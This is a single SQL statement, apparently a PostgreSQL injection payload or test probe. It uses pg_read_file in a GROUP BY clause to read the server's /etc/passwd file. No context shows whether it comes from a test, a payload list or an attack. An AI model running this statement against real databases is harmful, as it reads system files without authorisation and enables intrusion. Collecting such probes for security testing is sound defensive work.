SELECT 1 FROM canary GROUP BY pg_read_file('/etc/passwd')
